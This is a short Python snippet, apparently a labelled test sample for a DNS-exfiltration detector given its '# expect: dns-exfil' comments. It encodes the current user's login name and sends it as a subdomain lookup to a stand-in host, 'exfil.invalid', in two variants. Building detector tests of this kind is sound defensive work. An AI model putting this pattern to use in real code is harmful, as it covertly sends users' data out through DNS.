import socket, base64, os
chunk = base64.b32encode(os.getlogin().encode()).decode().strip("=").lower()
socket.gethostbyname(chunk + ".t.exfil.invalid")  # expect: dns-exfil
socket.getaddrinfo(f"{chunk}.x.exfil.invalid", 53)  # expect: dns-exfil
